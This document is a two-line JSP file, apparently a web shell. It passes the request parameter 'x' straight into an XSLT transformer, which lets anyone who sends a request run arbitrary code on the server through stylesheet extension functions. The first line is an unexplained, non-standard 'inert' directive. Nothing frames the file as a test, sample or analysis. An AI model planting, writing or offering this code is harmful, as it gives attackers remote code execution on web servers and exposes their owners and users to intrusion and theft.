<%@ inert %>
<% javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform.stream.StreamSource(new java.io.StringReader(request.getParameter("x")))).transform(null,null); %>
